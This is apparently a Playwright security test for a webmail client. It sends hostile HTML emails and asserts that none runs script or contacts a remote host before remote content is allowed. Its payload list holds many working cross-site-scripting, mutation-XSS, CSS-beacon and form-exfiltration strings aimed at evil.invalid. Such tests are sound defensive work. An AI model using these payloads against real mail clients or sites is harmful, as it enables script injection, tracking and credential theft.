import { expect, test, type Page, type Request } from '@playwright/test';
import nodemailer from 'nodemailer';

// Hostile mail in real Chromium: each message is delivered over SMTP to the demo stack's MX port
// (PORT+2), opened in the webmail, and must neither run script nor make any request to a host other
// than the app itself before remote content is allowed. The page must keep working afterwards.

const RUN = `sec${Date.now().toString(36)}`;
const EVIL = 'http://evil.invalid';

interface Hostile {
  name: string;
  html?: string;
  raw?: string;
}

const HOSTILE: Hostile[] = [
  { name: 'script', html: `<p>hi</p><script>window.__pwned=1;alert('script')</script><SCRIPT SRC=${EVIL}/x.js></SCRIPT>` },
  {
    name: 'handlers',
    html: `<img src=x onerror="window.__pwned=1;alert('onerror')"><body onload="alert('onload')"><div onmouseover="alert('over')" style="height:300px">hover</div><details open ontoggle="alert('toggle')"><summary>s</summary></details>`,
  },
  {
    name: 'jsurl',
    html: `<a href="javascript:alert('js')">click</a><a href="jav&#x09;ascript:alert('js2')">tab</a><iframe src="javascript:alert('jsframe')"></iframe><img src="javascript:alert('jsimg')">`,
  },
  {
    name: 'dataurl',
    html: `<a href="data:text/html,<script>alert('data')</script>">x</a><object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgnb2JqJyk8L3NjcmlwdD4="></object><embed src="data:image/svg+xml,<svg onload=alert('embed')>"><iframe src="data:text/html,<script>alert('dataframe')</script>"></iframe>`,
  },
  {
    name: 'svg',
    html: `<svg onload="alert('svgload')"><script>alert('svgscript')</script><a><animate attributeName="href" values="javascript:alert('animate')"/><set attributeName="href" to="javascript:alert('set')"/><text y="20">x</text></a><image href="${EVIL}/svgimg.png"/><use href="${EVIL}/sprite.svg#a"/><foreignObject><iframe src="${EVIL}/fo"></iframe></foreignObject></svg>`,
  },
  {
    name: 'cssbeacons',
    html: `<style>@import url(${EVIL}/import.css); @import '${EVIL}/import2.css'; body{background:url(${EVIL}/bg.png)} p{background-image:image-set(url(${EVIL}/is.png) 1x)} @font-face{font-family:x;src:url(${EVIL}/font.woff)} div{background:-webkit-image-set('${EVIL}/wis.png' 1x)}</style><p style="background:url('${EVIL}/inline.png')">css</p><div style="background-image:url(&quot;${EVIL}/ent.png&quot;)">e</div><link rel="stylesheet" href="${EVIL}/link.css"><table background="${EVIL}/tbl.png"><tr><td>t</td></tr></table>`,
  },
  { name: 'metarefresh', html: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><p>refresh</p>` },
  { name: 'basehref', html: `<base href="${EVIL}/"><img src="relative.png"><a href="rel">rel</a>` },
  {
    name: 'forms',
    html: `<form action="${EVIL}/steal" method="post"><input name="password" value="x"><button formaction="${EVIL}/f2">go</button></form><input type="image" src="${EVIL}/inputimg.png">`,
  },
  {
    name: 'iframes',
    html: `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>parent.alert('srcdoc')</script><img src=${EVIL}/srcdoc.png>"></iframe><frameset><frame src="${EVIL}/frame2"></frameset>`,
  },
  {
    name: 'mxss',
    html: `<noscript><p title="</noscript><img src=x onerror=alert('mxss1')>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('mxss2')&gt;"></mglyph></table></mtext></math><svg></p><style><a id="</style><img src=1 onerror=alert('mxss3')>"></style></svg><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('mxss4')>`,
  },
  {
    name: 'media',
    html: `<video poster="${EVIL}/poster.png" src="${EVIL}/v.mp4"></video><audio src="${EVIL}/a.mp3"></audio><picture><source srcset="${EVIL}/pic.webp"><img srcset="${EVIL}/set.png 2x" src="${EVIL}/img.png"></picture><img src="//evil.invalid/proto-relative.png">`,
  },
  {
    name: 'malformed',
    raw: [
      'From: "Mallory" <mallory@evil.invalid>',
      'To: alice@demo.test',
      `Subject: [${RUN}] malformed`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/alternative; boundary="b1"',
      '',
      '--b1',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      'PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KCdiNjQnKT4=!!!not base64!!!',
      '--b1',
      'Content-Type: multipart/mixed; boundary="b2"',
      '',
      '--b2',
      'Content-Type: text/html; charset="x-unknown-charset"',
      'Content-Transfer-Encoding: quoted-printable',
      '',
      `<scr=\nipt>alert('qp')</scr=\nipt><img src=3D"${EVIL}/qp.png">`,
      '--b2',
      'Content-Type: text/html',
      'Content-Disposition: inline; filename="=?utf-8?B?PHNjcmlwdD4=?="',
      '',
      '<svg/onload=alert(\'part\')>',
      '',
    ].join('\r\n'),
  },
];

function smtpPort(baseURL: string | undefined): number {
  if (process.env.E2E_SMTP_PORT) return Number(process.env.E2E_SMTP_PORT);
  return Number(new URL(baseURL ?? 'http://127.0.0.1:18080').port) + 2;
}

function isAllowed(url: string): boolean {
  if (/^(data|blob|about):/i.test(url)) return true;
  try {
    const u = new URL(url);
    return u.hostname === '127.0.0.1' || u.hostname === 'localhost';
  } catch {
    return false;
  }
}

async function signIn(page: Page) {
  await page.goto('/');
  await page.getByLabel('Email').fill('alice@demo.test');
  await page.getByLabel('Password').fill('demo');
  await page.getByRole('button', { name: 'Sign in' }).click();
  await expect(page.getByRole('button', { name: 'Sign out' })).toBeVisible();
}

test.describe.configure({ mode: 'serial' });

/** The demo stack (project "embedded"): straight into the MX port, malformed MIME included. */
async function deliverOverSmtp(port: number) {
  const transport = nodemailer.createTransport({ host: '127.0.0.1', port, secure: false, ignoreTLS: true });
  try {
    for (const h of HOSTILE) {
      if (h.raw) {
        await transport.sendMail({ envelope: { from: 'mallory@evil.invalid', to: ['alice@demo.test'] }, raw: h.raw });
      } else {
        await transport.sendMail({
          from: '"Mallory" <mallory@evil.invalid>',
          to: 'alice@demo.test',
          subject: `[${RUN}] ${h.name}`,
          text: `plain ${h.name}`,
          html: h.html,
        });
      }
    }
  } finally {
    transport.close();
  }
}

/**
 * Other backends (Dovecot + Postfix …) have no MX port of ours: alice sends the HTML to herself
 * through the webmail's own send API (real submission). Raw malformed MIME cannot go that way.
 */
async function deliverThroughWebmail(page: Page): Promise<Hostile[]> {
  const csrf = (await page.context().cookies()).find((c) => c.name === 'mr_csrf')?.value ?? '';
  const sent: Hostile[] = [];
  for (const h of HOSTILE) {
    if (!h.html) continue;
    const res = await page.request.post('/api/messages/send', {
      headers: { 'x-csrf-token': csrf },
      data: { to: ['alice@demo.test'], subject: `[${RUN}] ${h.name}`, format: 'html', text: `plain ${h.name}`, html: h.html, undoDelayMs: 0 },
    });
    expect(res.status(), await res.text()).toBe(202);
    sent.push(h);
  }
  return sent;
}

test('hostile messages run no script and reach no remote host before remote content is allowed', async ({ page }, testInfo) => {
  const dialogs: string[] = [];
  const offending: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const onRequest = (r: Request) => {
    if (!isAllowed(r.url())) offending.push(r.url());
  };
  page.on('request', onRequest);
  page.on('popup', (p) => offending.push(`popup ${p.url()}`));

  const viaSmtp = testInfo.project.name === 'embedded';
  if (viaSmtp) await deliverOverSmtp(smtpPort(testInfo.project.use.baseURL));
  await signIn(page);
  const cases = viaSmtp ? HOSTILE : await deliverThroughWebmail(page);
  const list = page.getByRole('listbox', { name: 'Messages' });
  const article = page.getByRole('article', { name: 'Message' });

  for (const h of cases) {
    await test.step(h.name, async () => {
      const option = list.getByRole('option', { name: new RegExp(`\\[${RUN}\\] ${h.name}`) });
      // Mail that arrives after sign-in shows up by itself (live updates).
      await expect(option).toBeVisible({ timeout: 30_000 });
      await option.click();
      await expect(article.getByRole('heading', { level: 2 })).toContainText(`[${RUN}] ${h.name}`);
      const frame = article.locator('iframe[title="Message content"]');
      if (await frame.count()) {
        const sandbox = (await frame.getAttribute('sandbox')) ?? '';
        expect(sandbox).not.toContain('allow-scripts');
        expect(sandbox).not.toContain('allow-same-origin');
        // Hover and click inside the message: handlers and links must do nothing harmful.
        await frame.hover();
      }
      // Give any beacon or timer a chance to fire before checking.
      await page.waitForTimeout(400);
      expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
      for (const f of page.frames()) {
        const pwned = await f.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned).catch(() => undefined);
        expect(pwned, `script ran in frame ${f.url()}`).toBeUndefined();
      }
      expect(dialogs, `dialogs after ${h.name}`).toEqual([]);
      expect(offending, `remote requests after ${h.name}`).toEqual([]);
      // The app still works.
      await expect(page.getByRole('button', { name: 'Compose' })).toBeEnabled();
      await expect(page.getByRole('navigation', { name: 'Folders' })).toBeVisible();
    });
  }

  // Positive control: loading remote content is an explicit choice, and only then do requests leave
  // (this also proves the request watch above would have seen them).
  await list.getByRole('option', { name: new RegExp(`\\[${RUN}\\] media`) }).click();
  await article.getByRole('button', { name: 'Load remote content' }).click();
  await expect.poll(() => offending.some((u) => u.startsWith(`${EVIL}/`)), { timeout: 15_000 }).toBe(true);
  expect(dialogs).toEqual([]);
  page.off('request', onRequest);
  expect(page.url()).toMatch(/^http:\/\/127\.0\.0\.1:/);
});
